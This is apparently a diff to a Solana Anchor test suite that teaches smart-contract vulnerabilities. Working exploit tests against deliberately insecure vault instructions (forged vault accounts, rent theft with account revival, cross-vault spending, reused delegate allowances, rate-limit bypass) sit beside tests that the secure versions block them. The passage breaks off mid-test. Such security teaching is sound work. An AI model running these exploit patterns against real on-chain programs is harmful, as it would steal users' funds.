@@ -8,14 +8,23 @@ import {
     Transaction,
     sendAndConfirmTransaction
 } from "@solana/web3.js";
+import {
+    TOKEN_PROGRAM_ID,
+    createAccount,
+    createMint,
+    getAccount,
+    mintTo,
+} from "@solana/spl-token";
 import { expect } from "chai";
 import { Vault } from "../../../target/types/vault";
+import { derivePda, expectError, sleep } from "../../../tests/utils";
 
 describe("01: Missing Account Validation", () => {
     const provider = anchor.AnchorProvider.env();
     anchor.setProvider(provider);
 
     const program = anchor.workspace.Vault as Program<Vault>;
+    const rawWriter = anchor.workspace.MockRawWriter as Program<any>;
     
     let victim: Keypair;
     let attacker: Keypair;
@@ -26,6 +35,15 @@ describe("01: Missing Account Validation", () => {
 
     const DEPOSIT_AMOUNT = 1 * LAMPORTS_PER_SOL;
 
+    /** `[seed, owner]`, plus the little-endian `index` for numbered vaults. */
+    function pdaOf(seed: string, owner: PublicKey, index?: number): PublicKey {
+        const seeds: (string | PublicKey | Buffer)[] = [seed, owner];
+        if (index !== undefined) {
+            seeds.push(new anchor.BN(index).toArrayLike(Buffer, "le", 2));
+        }
+        return derivePda(seeds, program.programId)[0];
+    }
+
     before(async () => {
         victim = Keypair.generate();
         attacker = Keypair.generate();
@@ -181,6 +199,7 @@ describe("01: Missing Account Validation", () => {
                     .accounts({
                         vault: victimVault,
                         vaultPda: victimVaultPda,
+                        rateLimit: pdaOf("rate_limit", attacker.publicKey),
                         owner: attacker.publicKey,
                         systemProgram: SystemProgram.programId,
                     })
@@ -202,6 +221,7 @@ describe("01: Missing Account Validation", () => {
                     .accounts({
                         vault: fakeVault.publicKey,
                         vaultPda: victimVaultPda,
+                        rateLimit: pdaOf("rate_limit", attacker.publicKey),
                         owner: attacker.publicKey,
                         systemProgram: SystemProgram.programId,
                     })
@@ -236,6 +256,7 @@ describe("01: Missing Account Validation", () => {
                     .accounts({
                         vault: attackerVault,
                         vaultPda: victimVaultPda,
+                        rateLimit: pdaOf("rate_limit", attacker.publicKey),
                         owner: attacker.publicKey,
                         systemProgram: SystemProgram.programId,
                     })
@@ -267,6 +288,7 @@ describe("01: Missing Account Validation", () => {
                 .accounts({
                     vault: victimVault,
                     vaultPda: victimVaultPda,
+                    rateLimit: pdaOf("rate_limit", victim.publicKey),
                     owner: victim.publicKey,
                     systemProgram: SystemProgram.programId,
                 })
@@ -280,4 +302,1368 @@ describe("01: Missing Account Validation", () => {
             expect(balanceAfter).to.be.greaterThan(balanceBefore);
         });
     });
+
+    describe("SPL token variant", () => {
+        const TOKEN_AMOUNT = 1_000_000;
+
+        let mint: PublicKey;
+        let victimTokens: PublicKey;
+        let attackerTokens: PublicKey;
+        let victimVaultToken: PublicKey;
+        let forgedVault: PublicKey;
+
+        async function tokenBalance(account: PublicKey): Promise<number> {
+            return Number((await getAccount(provider.connection, account)).amount);
+        }
+
+        async function depositTokens() {
+            await program.methods
+                .depositTokens(new anchor.BN(TOKEN_AMOUNT))
+                .accounts({
+                    vaultToken: victimVaultToken,
+                    source: victimTokens,
+                    owner: victim.publicKey,
+                    tokenProgram: TOKEN_PROGRAM_ID,
+                })
+                .signers([victim])
+                .rpc();
+        }
+
+        before(async () => {
+            [victimVaultToken] = PublicKey.findProgramAddressSync(
+                [Buffer.from("vault_token"), victim.publicKey.toBuffer()],
+                program.programId
+            );
+        });
+
+        describe("Setup: Victim creates and funds a token vault", () => {
+            it("initializes the token vault with the Vault PDA as authority", async () => {
+                mint = await createMint(provider.connection, victim, victim.publicKey, null, 6);
+                victimTokens = await createAccount(provider.connection, victim, mint, victim.publicKey);
+                attackerTokens = await createAccount(provider.connection, attacker, mint, attacker.publicKey);
+                await mintTo(provider.connection, victim, mint, victimTokens, victim, 2 * TOKEN_AMOUNT);
+
+                await program.methods
+                    .initializeTokenVault()
+                    .accounts({
+                        vault: victimVault,
+                        vaultToken: victimVaultToken,
+                        mint,
+                        owner: victim.publicKey,
+                        tokenProgram: TOKEN_PROGRAM_ID,
+                        systemProgram: SystemProgram.programId,
+                    })
+                    .signers([victim])
+                    .rpc();
+
+                const vaultToken = await getAccount(provider.connection, victimVaultToken);
+                expect(vaultToken.owner.toString()).to.equal(victimVault.toString());
+            });
+
+            it("deposits tokens", async () => {
+                await depositTokens();
+                expect(await tokenBalance(victimVaultToken)).to.equal(TOKEN_AMOUNT);
+            });
+        });
+
+        describe("Exploit: withdraw_tokens_insecure accepts a forged vault", () => {
+            it("attacker forges a Vault naming the attacker, with the victim's bump", async () => {
+                const forged = Keypair.generate();
+                const realVaultData = (await provider.connection.getAccountInfo(victimVault))!.data;
+
+                // Same layout as a real Vault: discriminator + owner + balance + bump
+                const fakeData = Buffer.alloc(49);
+                realVaultData.subarray(0, 8).copy(fakeData, 0);
+                attacker.publicKey.toBuffer().copy(fakeData, 8);
+                fakeData.writeUInt8(victimVaultBump, 48);
+
+                const tx = new Transaction().add(
+                    SystemProgram.createAccount({
+                        fromPubkey: attacker.publicKey,
+                        newAccountPubkey: forged.publicKey,
+                        lamports: await provider.connection.getMinimumBalanceForRentExemption(fakeData.length),
+                        space: fakeData.length,
+                        programId: rawWriter.programId,
+                    }),
+                    await rawWriter.methods.write(0, fakeData).accounts({ target: forged.publicKey }).instruction()
+                );
+                await sendAndConfirmTransaction(provider.connection, tx, [attacker, forged]);
+                forgedVault = forged.publicKey;
+            });
+
+            it("withdraw_tokens_insecure drains the victim's token vault", async () => {
+                await program.methods
+                    .withdrawTokensInsecure(new anchor.BN(TOKEN_AMOUNT))
+                    .accounts({
+                        vault: forgedVault,
+                        vaultOwner: victim.publicKey,
+                        vaultAuthority: victimVault,
+                        vaultToken: victimVaultToken,
+                        destination: attackerTokens,
+                        authority: attacker.publicKey,
+                        tokenProgram: TOKEN_PROGRAM_ID,
+                    })
+                    .signers([attacker])
+                    .rpc();
+
+                console.log(`  Attacker received ${await tokenBalance(attackerTokens)} tokens from the victim's vault`);
+                expect(await tokenBalance(attackerTokens)).to.equal(TOKEN_AMOUNT);
+                expect(await tokenBalance(victimVaultToken)).to.equal(0);
+            });
+        });
+
+        describe("Secure: withdraw_tokens_secure blocks attacks", () => {
+            before(async () => {
+                await depositTokens();
+            });
+
+            it("rejects the forged vault", async () => {
+                try {
+                    await program.methods
+                        .withdrawTokensSecure(new anchor.BN(TOKEN_AMOUNT))
+                        .accounts({
+                            vault: forgedVault,
+                            vaultToken: victimVaultToken,
+                            destination: attackerTokens,
+                            owner: attacker.publicKey,
+                            tokenProgram: TOKEN_PROGRAM_ID,
+                        })
+                        .signers([attacker])
+                        .rpc();
+
+                    expect.fail("Should have thrown");
+                } catch (error: any) {
+                    expect(error.error?.errorCode?.code).to.equal("AccountOwnedByWrongProgram");
+                }
+            });
+
+            it("rejects the attacker as owner of the victim's vault", async () => {
+                try {
+                    await program.methods
+                        .withdrawTokensSecure(new anchor.BN(TOKEN_AMOUNT))
+                        .accounts({
+                            vault: victimVault,
+                            vaultToken: victimVaultToken,
+                            destination: attackerTokens,
+                            owner: attacker.publicKey,
+                            tokenProgram: TOKEN_PROGRAM_ID,
+                        })
+                        .signers([attacker])
+                        .rpc();
+
+                    expect.fail("Should have thrown");
+                } catch (error: any) {
+                    expect(error.error?.errorCode?.code).to.equal("ConstraintSeeds");
+                }
+            });
+
+            it("allows the legitimate owner to withdraw tokens", async () => {
+                await program.methods
+                    .withdrawTokensSecure(new anchor.BN(TOKEN_AMOUNT))
+                    .accounts({
+                        vault: victimVault,
+                        vaultToken: victimVaultToken,
+                        destination: victimTokens,
+                        owner: victim.publicKey,
+                        tokenProgram: TOKEN_PROGRAM_ID,
+                    })
+                    .signers([victim])
+                    .rpc();
+
+                expect(await tokenBalance(victimVaultToken)).to.equal(0);
+                expect(await tokenBalance(victimTokens)).to.equal(TOKEN_AMOUNT);
+            });
+        });
+    });
+
+    describe("close_vault: rent theft and revival", () => {
+        let alice: Keypair;
+        let bob: Keypair;
+        let carol: Keypair;
+
+        function vaultOf(owner: PublicKey): PublicKey {
+            return PublicKey.findProgramAddressSync([Buffer.from("vault"), owner.toBuffer()], program.programId)[0];
+        }
+
+        async function initializeVault(owner: Keypair) {
+            const [vaultPda] = PublicKey.findProgramAddressSync(
+                [Buffer.from("vault_pda"), owner.publicKey.toBuffer()],
+                program.programId
+            );
+            await program.methods
+                .initializeVault()
+                .accounts({
+                    vault: vaultOf(owner.publicKey),
+                    vaultPda,
+                    owner: owner.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([owner])
+                .rpc();
+        }
+
+        /** Sends the vault's rent back to it, in the same transaction as `closeIx`. */
+        async function closeAndRevive(closeIx: anchor.web3.TransactionInstruction, vault: PublicKey, payer: Keypair) {
+            const rent = await provider.connection.getMinimumBalanceForRentExemption(8 + 32 + 8 + 1);
+            const tx = new Transaction().add(
+                closeIx,
+                SystemProgram.transfer({ fromPubkey: payer.publicKey, toPubkey: vault, lamports: rent })
+            );
+            await sendAndConfirmTransaction(provider.connection, tx, [payer]);
+        }
+
+        before(async () => {
+            alice = Keypair.generate();
+            bob = Keypair.generate();
+            carol = Keypair.generate();
+            for (const kp of [alice, bob, carol]) {
+                const sig = await provider.connection.requestAirdrop(kp.publicKey, 2 * LAMPORTS_PER_SOL);
+                await provider.connection.confirmTransaction(sig);
+                await initializeVault(kp);
+            }
+        });
+
+        describe("Exploit: vulnerable_close_vault", () => {
+            it("attacker closes Alice's vault and takes the rent", async () => {
+                const vault = vaultOf(alice.publicKey);
+                const rent = await provider.connection.getBalance(vault);
+                const before = await provider.connection.getBalance(attacker.publicKey);
+
+                await program.methods
+                    .vulnerableCloseVault()
+                    .accounts({ vault, destination: attacker.publicKey, authority: attacker.publicKey })
+                    .signers([attacker])
+                    .rpc();
+
+                const after = await provider.connection.getBalance(attacker.publicKey);
+                console.log(`  Attacker took ${rent} lamports of Alice's rent`);
+                expect(after - before).to.equal(rent);
+                expect(await provider.connection.getAccountInfo(vault)).to.equal(null);
+            });
+
+            it("a vault closed and refunded in one transaction comes back with its data", async () => {
+                const vault = vaultOf(bob.publicKey);
+                const closeIx = await program.methods
+                    .vulnerableCloseVault()
+                    .accounts({ vault, destination: attacker.publicKey, authority: attacker.publicKey })
+                    .instruction();
+                await closeAndRevive(closeIx, vault, attacker);
+
+                const revived = await program.account.vault.fetch(vault);
+                expect(revived.owner.toString()).to.equal(bob.publicKey.toString());
+            });
+        });
+
+        describe("Secure: secure_close_vault", () => {
+            it("rejects the attacker closing Carol's vault", async () => {
+                try {
+                    await program.methods
+                        .secureCloseVault()
+                        .accounts({ vault: vaultOf(carol.publicKey), owner: attacker.publicKey })
+                        .signers([attacker])
+                        .rpc();
+
+                    expect.fail("Should have thrown");
+                } catch (error: any) {
+                    expect(error.error?.errorCode?.code).to.equal("ConstraintSeeds");
+                }
+            });
+
+            it("refunds Carol, and the closed vault cannot be revived", async () => {
+                const vault = vaultOf(carol.publicKey);
+                const closeIx = await program.methods
+                    .secureCloseVault()
+                    .accounts({ vault, owner: carol.publicKey })
+                    .instruction();
+                await closeAndRevive(closeIx, vault, carol);
+
+                const info = await provider.connection.getAccountInfo(vault);
+                expect(info!.owner.toString()).to.equal(SystemProgram.programId.toString());
+                expect(info!.data.length).to.equal(0);
+            });
+        });
+    });
+
+    describe("Indexed vaults: cross-spending between an owner's vaults", () => {
+        let dana: Keypair;
+
+        const SAVINGS = 0;
+        const SPENDING = 1;
+        const SAVINGS_AMOUNT = 1 * LAMPORTS_PER_SOL;
+        const SPENDING_AMOUNT = LAMPORTS_PER_SOL / 5;
+
+        function indexBytes(index: number): Buffer {
+            return new anchor.BN(index).toArrayLike(Buffer, "le", 2);
+        }
+
+        function vaultAt(owner: PublicKey, index: number): PublicKey {
+            return PublicKey.findProgramAddressSync(
+                [Buffer.from("vault"), owner.toBuffer(), indexBytes(index)],
+                program.programId
+            )[0];
+        }
+
+        function vaultPdaAt(owner: PublicKey, index: number): PublicKey {
+            return PublicKey.findProgramAddressSync(
+                [Buffer.from("vault_pda"), owner.toBuffer(), indexBytes(index)],
+                program.programId
+            )[0];
+        }
+
+        function indexedAccounts(vault: PublicKey, index: number) {
+            return {
+                vault,
+                vaultPda: vaultPdaAt(dana.publicKey, index),
+                owner: dana.publicKey,
+                systemProgram: SystemProgram.programId,
+            };
+        }
+
+        before(async () => {
+            dana = Keypair.generate();
+            const sig = await provider.connection.requestAirdrop(dana.publicKey, 5 * LAMPORTS_PER_SOL);
+            await provider.connection.confirmTransaction(sig);
+
+            for (const [index, amount] of [[SAVINGS, SAVINGS_AMOUNT], [SPENDING, SPENDING_AMOUNT]]) {
+                const vault = vaultAt(dana.publicKey, index);
+                await program.methods
+                    .initializeVaultIndexed(index)
+                    .accounts(indexedAccounts(vault, index))
+                    .signers([dana])
+                    .rpc();
+                await program.methods
+                    .depositIndexed(index, new anchor.BN(amount))
+                    .accounts(indexedAccounts(vault, index))
+                    .signers([dana])
+                    .rpc();
+            }
+        });
+
+        describe("Exploit: withdraw_indexed_insecure", () => {
+            it("debits the savings record while draining the spending PDA", async () => {
+                await program.methods
+                    .withdrawIndexedInsecure(SPENDING, new anchor.BN(SPENDING_AMOUNT))
+                    .accounts(indexedAccounts(vaultAt(dana.publicKey, SAVINGS), SPENDING))
+                    .signers([dana])
+                    .rpc();
+
+                const savings = await program.account.vault.fetch(vaultAt(dana.publicKey, SAVINGS));
+                const spending = await program.account.vault.fetch(vaultAt(dana.publicKey, SPENDING));
+                const spendingLamports = await provider.connection.getBalance(vaultPdaAt(dana.publicKey, SPENDING));
+
+                console.log(`  Savings record: ${savings.balance.toNumber() / LAMPORTS_PER_SOL} SOL, spending record: ${spending.balance.toNumber() / LAMPORTS_PER_SOL} SOL backed by ${spendingLamports}`);
+                expect(savings.balance.toNumber()).to.equal(SAVINGS_AMOUNT - SPENDING_AMOUNT);
+                expect(spending.balance.toNumber()).to.equal(SPENDING_AMOUNT);
+                expect(spendingLamports).to.equal(0);
+            });
+        });
+
+        describe("Secure: withdraw_indexed_secure", () => {
+            it("rejects the savings record paired with the spending index", async () => {
+                try {
+                    await program.methods
+                        .withdrawIndexedSecure(SPENDING, new anchor.BN(1))
+                        .accounts(indexedAccounts(vaultAt(dana.publicKey, SAVINGS), SPENDING))
+                        .signers([dana])
+                        .rpc();
+
+                    expect.fail("Should have thrown");
+                } catch (error: any) {
+                    expect(error.error?.errorCode?.code).to.equal("ConstraintSeeds");
+                }
+            });
+
+            it("withdraws from the vault the index names", async () => {
+                const vault = vaultAt(dana.publicKey, SAVINGS);
+                const before = await provider.connection.getBalance(vaultPdaAt(dana.publicKey, SAVINGS));
+
+                await program.methods
+                    .withdrawIndexedSecure(SAVINGS, new anchor.BN(SPENDING_AMOUNT))
+                    .accounts(indexedAccounts(vault, SAVINGS))
+                    .signers([dana])
+                    .rpc();
+
+                const after = await provider.connection.getBalance(vaultPdaAt(dana.publicKey, SAVINGS));
+                expect(before - after).to.equal(SPENDING_AMOUNT);
+            });
+        });
+    });
+
+    describe("Delegated withdrawals: allowance never spent", () => {
+        let erin: Keypair;
+        let frank: Keypair;
+
+        const VAULT_FUNDS = 2 * LAMPORTS_PER_SOL;
+        const ALLOWANCE = (3 * LAMPORTS_PER_SOL) / 10;
+        const EXPIRES_IN_SECS = 4;
+
+        function erinPda(seed: string): PublicKey {
+            return PublicKey.findProgramAddressSync([Buffer.from(seed), erin.publicKey.toBuffer()], program.programId)[0];
+        }
+
+        function allowancePda(): PublicKey {
+            return PublicKey.findProgramAddressSync(
+                [Buffer.from("allowance"), erin.publicKey.toBuffer(), frank.publicKey.toBuffer()],
+                program.programId
+            )[0];
+        }
+
+        async function approve() {
+            await program.methods
+                .approveDelegate(new anchor.BN(ALLOWANCE), new anchor.BN(EXPIRES_IN_SECS))
+                .accounts({
+                    vault: erinPda("vault"),
+                    allowance: allowancePda(),
+                    delegate: frank.publicKey,
+                    owner: erin.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([erin])
+                .rpc();
+        }
+
+        async function revoke() {
+            await program.methods
+                .revokeDelegate()
+                .accounts({ vault: erinPda("vault"), allowance: allowancePda(), owner: erin.publicKey })
+                .signers([erin])
+                .rpc();
+        }
+
+        function delegatedWithdraw(method: "delegatedWithdrawInsecure" | "delegatedWithdrawSecure", amount: number) {
+            return program.methods[method](new anchor.BN(amount))
+                .accounts({
+                    vault: erinPda("vault"),
+                    vaultPda: erinPda("vault_pda"),
+                    allowance: allowancePda(),
+                    rateLimit: erinPda("rate_limit"),
+                    owner: erin.publicKey,
+                    delegate: frank.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([frank])
+                .rpc();
+        }
+
+        async function sleepPastExpiry() {
+            const allowance = await program.account.allowance.fetch(allowancePda());
+            await sleep(Math.max(0, allowance.expiry.toNumber() - Date.now() / 1000) + 2);
+        }
+
+        before(async () => {
+            erin = Keypair.generate();
+            frank = Keypair.generate();
+            for (const kp of [erin, frank]) {
+                const sig = await provider.connection.requestAirdrop(kp.publicKey, 5 * LAMPORTS_PER_SOL);
+                await provider.connection.confirmTransaction(sig);
+            }
+
+            await program.methods
+                .initializeVault()
+                .accounts({
+                    vault: erinPda("vault"),
+                    vaultPda: erinPda("vault_pda"),
+                    owner: erin.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([erin])
+                .rpc();
+            await program.methods
+                .deposit(new anchor.BN(VAULT_FUNDS))
+                .accounts({
+                    vault: erinPda("vault"),
+                    vaultPda: erinPda("vault_pda"),
+                    owner: erin.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([erin])
+                .rpc();
+        });
+
+        describe("Exploit: delegated_withdraw_insecure", () => {
+            it("Erin approves Frank for 0.3 SOL", async () => {
+                await approve();
+            });
+
+            it("Frank withdraws the full allowance three times", async () => {
+                const before = await provider.connection.getBalance(frank.publicKey);
+                for (let i = 0; i < 3; i++) {
+                    await delegatedWithdraw("delegatedWithdrawInsecure", ALLOWANCE);
+                }
+                const after = await provider.connection.getBalance(frank.publicKey);
+                const allowance = await program.account.allowance.fetch(allowancePda());
+
+                console.log(`  Frank withdrew ${(after - before) / LAMPORTS_PER_SOL} SOL on a 0.3 SOL allowance`);
+                expect(allowance.remainingAmount.toNumber()).to.equal(ALLOWANCE);
+            });
+
+            it("Frank still withdraws after the allowance expires", async () => {
+                await sleepPastExpiry();
+                await delegatedWithdraw("delegatedWithdrawInsecure", ALLOWANCE / 3);
+            });
+        });
+
+        describe("Secure: delegated_withdraw_secure", () => {
+            it("Erin revokes and approves Frank again", async () => {
+                await revoke();
+                await approve();
+            });
+
+            it("spends the allowance on each withdrawal", async () => {
+                await delegatedWithdraw("delegatedWithdrawSecure", (2 * ALLOWANCE) / 3);
+                const allowance = await program.account.allowance.fetch(allowancePda());
+                expect(allowance.remainingAmount.toNumber()).to.equal(ALLOWANCE / 3);
+            });
+
+            it("rejects a withdrawal beyond what remains", async () => {
+                await expectError(delegatedWithdraw("delegatedWithdrawSecure", (2 * ALLOWANCE) / 3), "AllowanceExceeded");
+            });
+
+            it("rejects a withdrawal after expiry", async () => {
+                await sleepPastExpiry();
+                await expectError(delegatedWithdraw("delegatedWithdrawSecure", ALLOWANCE / 3), "AllowanceExpired");
+            });
+
+            it("rejects a withdrawal after Erin revokes", async () => {
+                await revoke();
+                await expectError(delegatedWithdraw("delegatedWithdrawSecure", 1), "AccountNotInitialized");
+            });
+        });
+    });
+
+    describe("Rate limiting: window reset on caller-supplied time", () => {
+        let grace: Keypair;
+        let heidi: Keypair;
+
+        const VAULT_FUNDS = 2 * LAMPORTS_PER_SOL;
+        const MAX_PER_WINDOW = LAMPORTS_PER_SOL / 5;
+        const LONG_WINDOW_SECS = 3600;
+        const SHORT_WINDOW_SECS = 6;
+
+        function withdrawAccounts(owner: PublicKey) {
+            return {
+                vault: pdaOf("vault", owner),
+                vaultPda: pdaOf("vault_pda", owner),
+                rateLimit: pdaOf("rate_limit", owner),
+                owner,
+                systemProgram: SystemProgram.programId,
+            };
+        }
+
+        async function setUpLimitedVault(owner: Keypair, windowSecs: number) {
+            const sig = await provider.connection.requestAirdrop(owner.publicKey, 5 * LAMPORTS_PER_SOL);
+            await provider.connection.confirmTransaction(sig);
+
+            const accounts = {
+                vault: pdaOf("vault", owner.publicKey),
+                vaultPda: pdaOf("vault_pda", owner.publicKey),
+                owner: owner.publicKey,
+                systemProgram: SystemProgram.programId,
+            };
+            await program.methods.initializeVault().accounts(accounts).signers([owner]).rpc();
+            await program.methods.deposit(new anchor.BN(VAULT_FUNDS)).accounts(accounts).signers([owner]).rpc();
+            await program.methods
+                .configureRateLimit(new anchor.BN(MAX_PER_WINDOW), new anchor.BN(windowSecs))
+                .accounts({
+                    vault: accounts.vault,
+                    rateLimit: pdaOf("rate_limit", owner.publicKey),
+                    owner: owner.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([owner])
+                .rpc();
+        }
+
+        function withdrawInsecure(amount: number, now: number) {
+            return program.methods
+                .rateLimitedWithdrawInsecure(new anchor.BN(amount), new anchor.BN(now))
+                .accounts(withdrawAccounts(grace.publicKey))
+                .signers([grace])
+                .rpc();
+        }
+
+        function withdrawSecure(amount: number) {
+            return program.methods
+                .rateLimitedWithdrawSecure(new anchor.BN(amount))
+                .accounts(withdrawAccounts(heidi.publicKey))
+                .signers([heidi])
+                .rpc();
+        }
+
+        before(async () => {
+            grace = Keypair.generate();
+            heidi = Keypair.generate();
+            await setUpLimitedVault(grace, LONG_WINDOW_SECS);
+            await setUpLimitedVault(heidi, SHORT_WINDOW_SECS);
+        });
+
+        describe("Exploit: rate_limited_withdraw_insecure", () => {
+            it("enforces the limit while the caller reports honest time", async () => {
+                const start = (await program.account.rateLimit.fetch(pdaOf("rate_limit", grace.publicKey))).checkpointTs.toNumber();
+                await withdrawInsecure(MAX_PER_WINDOW, start);
+                await expectError(withdrawInsecure(1, start), "RateLimitExceeded");
+            });
+
+            it("a key holder claiming a later time on each call withdraws the limit every call", async () => {
+                const before = await provider.connection.getBalance(pdaOf("vault_pda", grace.publicKey));
+                for (let i = 1; i <= 3; i++) {
+                    const rateLimit = await program.account.rateLimit.fetch(pdaOf("rate_limit", grace.publicKey));
+                    await withdrawInsecure(MAX_PER_WINDOW, rateLimit.checkpointTs.toNumber() + LONG_WINDOW_SECS);
+                }
+                const after = await provider.connection.getBalance(pdaOf("vault_pda", grace.publicKey));
+
+                console.log(`  Withdrew ${(before - after) / LAMPORTS_PER_SOL} SOL in seconds under a 0.2 SOL/hour limit`);
+                expect(before - after).to.equal(3 * MAX_PER_WINDOW);
+            });
+        });
+
+        describe("Secure: rate_limited_withdraw_secure", () => {
+            it("allows the full limit, then not half as much again right away", async () => {
+                await withdrawSecure(MAX_PER_WINDOW);
+                await expectError(withdrawSecure(MAX_PER_WINDOW / 2), "RateLimitExceeded");
+            });
+
+            it("releases capacity in proportion to elapsed time, never all at once", async () => {
+                await sleep(SHORT_WINDOW_SECS / 2 + 1);
+                await withdrawSecure(MAX_PER_WINDOW / 2);
+                await expectError(withdrawSecure(MAX_PER_WINDOW), "RateLimitExceeded");
+            });
+
+            it("withdraw_secure counts against the same limit", async () => {
+                await expectError(
+                    program.methods
+                        .withdrawSecure(new anchor.BN(MAX_PER_WINDOW))
+                        .accounts(withdrawAccounts(heidi.publicKey))
+                        .signers([heidi])
+                        .rpc(),
+                    "RateLimitExceeded"
+                );
+            });
+        });
+    });
+
+    describe("Vault migration: v1 bytes read as the v2 layout", () => {
+        let ivan: Keypair;
+        let judy: Keypair;
+
+        const VAULT_FUNDS = LAMPORTS_PER_SOL / 2;
+
+        function vaultAccounts(owner: PublicKey) {
+            return {
+                vault: pdaOf("vault", owner),
+                vaultPda: pdaOf("vault_pda", owner),
+                rateLimit: pdaOf("rate_limit", owner),
+                owner,
+                systemProgram: SystemProgram.programId,
+            };
+        }
+
+        async function setUpV1Vault(owner: Keypair) {
+            const sig = await provider.connection.requestAirdrop(owner.publicKey, 2 * LAMPORTS_PER_SOL);
+            await provider.connection.confirmTransaction(sig);
+
+            const accounts = vaultAccounts(owner.publicKey);
+            await program.methods.initializeVault().accounts(accounts).signers([owner]).rpc();
+            await program.methods.deposit(new anchor.BN(VAULT_FUNDS)).accounts(accounts).signers([owner]).rpc();
+        }
+
+        function migrate(method: "migrateVaultInsecure" | "migrateVaultSecure", owner: Keypair) {
+            return program.methods[method]()
+                .accounts({
+                    vault: pdaOf("vault", owner.publicKey),
+                    owner: owner.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([owner])
+                .rpc();
+        }
+
+        before(async () => {
+            ivan = Keypair.generate();
+            judy = Keypair.generate();
+            await setUpV1Vault(ivan);
+            await setUpV1Vault(judy);
+        });
+
+        describe("Exploit: migrate_vault_insecure", () => {
+            it("shifts every field after owner by one byte", async () => {
+                const v1 = await program.account.vault.fetch(pdaOf("vault", ivan.publicKey));
+                await migrate("migrateVaultInsecure", ivan);
+                const v2 = await program.account.vaultV2.fetch(pdaOf("vault", ivan.publicKey));
+
+                // The v1 balance loses its low byte; the bump becomes the top byte
+                const shifted = v1.balance.shrn(8).or(new anchor.BN(v1.bump).shln(56));
+                console.log(`  Recorded balance went from ${v1.balance.toString()} to ${v2.balance.toString()} lamports`);
+                expect(v2.owner.toString()).to.equal(ivan.publicKey.toString());
+                expect(v2.balance.toString()).to.equal(shifted.toString());
+                expect(v2.bump).to.equal(0);
+            });
+        });
+
+        describe("Secure: migrate_vault_secure", () => {
+            it("copies v1 fields by name and zero-fills the new ones", async () => {
+                const v1 = await program.account.vault.fetch(pdaOf("vault", judy.publicKey));
+                await migrate("migrateVaultSecure", judy);
+                const v2 = await program.account.vaultV2.fetch(pdaOf("vault", judy.publicKey));
+
+                expect(v2.version).to.equal(2);
+                expect(v2.balance.toString()).to.equal(v1.balance.toString());
+                expect(v2.bump).to.equal(v1.bump);
+                expect(v2.migratedAt.toNumber()).to.be.greaterThan(0);
+                expect(v2.reserved.every((b: number) => b === 0)).to.equal(true);
+            });
+
+            it("rejects migrating a v2 vault again", async () => {
+                await expectError(migrate("migrateVaultSecure", judy), "AlreadyMigrated");
+            });
+
+            it("keeps deposits and withdrawals working on the v2 vault", async () => {
+                const accounts = vaultAccounts(judy.publicKey);
+                await program.methods.deposit(new anchor.BN(VAULT_FUNDS)).accounts(accounts).signers([judy]).rpc();
+                await program.methods.withdrawSecure(new anchor.BN(2 * VAULT_FUNDS)).accounts(accounts).signers([judy]).rpc();
+
+                const v2 = await program.account.vaultV2.fetch(accounts.vault);
+                expect(v2.version).to.equal(2);
+                expect(v2.balance.toNumber()).to.equal(0);
+                expect(v2.migratedAt.toNumber()).to.be.greaterThan(0);
+            });
+        });
+    });
+
+    describe("Batch withdrawals: unvalidated remaining accounts", () => {
+        let kate: Keypair;
+
+        const SAVINGS = 0;
+        const SPENDING = 1;
+        const SAVINGS_AMOUNT = 1 * LAMPORTS_PER_SOL;
+        const SPENDING_AMOUNT = LAMPORTS_PER_SOL / 5;
+
+        function indexBytes(index: number): Buffer {
+            return new anchor.BN(index).toArrayLike(Buffer, "le", 2);
+        }
+
+        function vaultAt(index: number): PublicKey {
+            return PublicKey.findProgramAddressSync(
+                [Buffer.from("vault"), kate.publicKey.toBuffer(), indexBytes(index)],
+                program.programId
+            )[0];
+        }
+
+        function vaultPdaAt(index: number): PublicKey {
+            return PublicKey.findProgramAddressSync(
+                [Buffer.from("vault_pda"), kate.publicKey.toBuffer(), indexBytes(index)],
+                program.programId
+            )[0];
+        }
+
+        async function depositInto(index: number, amount: number) {
+            await program.methods
+                .depositIndexed(index, new anchor.BN(amount))
+                .accounts({
+                    vault: vaultAt(index),
+                    vaultPda: vaultPdaAt(index),
+                    owner: kate.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([kate])
+                .rpc();
+        }
+
+        /** Each entry is `[index, amount, vault record, vault_pda]`. */
+        function batch(method: "batchWithdrawInsecure" | "batchWithdrawSecure", entries: [number, number, PublicKey, PublicKey][]) {
+            return program.methods[method](entries.map(([index, amount]) => ({ index, amount: new anchor.BN(amount) })))
+                .accounts({ owner: kate.publicKey, systemProgram: SystemProgram.programId })
+                .remainingAccounts(
+                    entries.flatMap(([, , vault, vaultPda]) => [
+                        { pubkey: vault, isSigner: false, isWritable: true },
+                        { pubkey: vaultPda, isSigner: false, isWritable: true },
+                    ])
+                )
+                .signers([kate])
+                .rpc();
+        }
+
+        async function recordOf(index: number): Promise<number> {
+            return (await program.account.vault.fetch(vaultAt(index))).balance.toNumber();
+        }
+
+        before(async () => {
+            kate = Keypair.generate();
+            const sig = await provider.connection.requestAirdrop(kate.publicKey, 5 * LAMPORTS_PER_SOL);
+            await provider.connection.confirmTransaction(sig);
+
+            for (const [index, amount] of [[SAVINGS, SAVINGS_AMOUNT], [SPENDING, SPENDING_AMOUNT]]) {
+                await program.methods
+                    .initializeVaultIndexed(index)
+                    .accounts({
+                        vault: vaultAt(index),
+                        vaultPda: vaultPdaAt(index),
+                        owner: kate.publicKey,
+                        systemProgram: SystemProgram.programId,
+                    })
+                    .signers([kate])
+                    .rpc();
+                await depositInto(index, amount);
+            }
+        });
+
+        describe("Exploit: batch_withdraw_insecure", () => {
+            it("debits the savings record for lamports taken from the spending PDA", async () => {
+                await batch("batchWithdrawInsecure", [[SPENDING, SPENDING_AMOUNT, vaultAt(SAVINGS), vaultPdaAt(SPENDING)]]);
+
+                const spendingLamports = await provider.connection.getBalance(vaultPdaAt(SPENDING));
+                console.log(`  Savings record: ${(await recordOf(SAVINGS)) / LAMPORTS_PER_SOL} SOL, spending record: ${(await recordOf(SPENDING)) / LAMPORTS_PER_SOL} SOL backed by ${spendingLamports}`);
